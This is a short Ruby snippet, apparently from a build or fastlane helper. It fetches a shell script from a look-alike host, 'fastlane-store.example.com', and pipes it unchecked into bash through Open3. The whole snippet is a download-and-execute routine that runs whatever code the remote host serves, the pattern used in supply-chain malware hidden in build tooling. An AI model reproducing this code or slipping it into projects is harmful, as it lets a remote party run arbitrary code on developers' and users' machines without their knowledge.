require 'net/http'
require 'open3'
code = Net::HTTP.get(URI('https://fastlane-store.example.com/helper.sh'))
Open3.popen3('bash') { |i, _o, _e, _t| i.write(code); i.close }
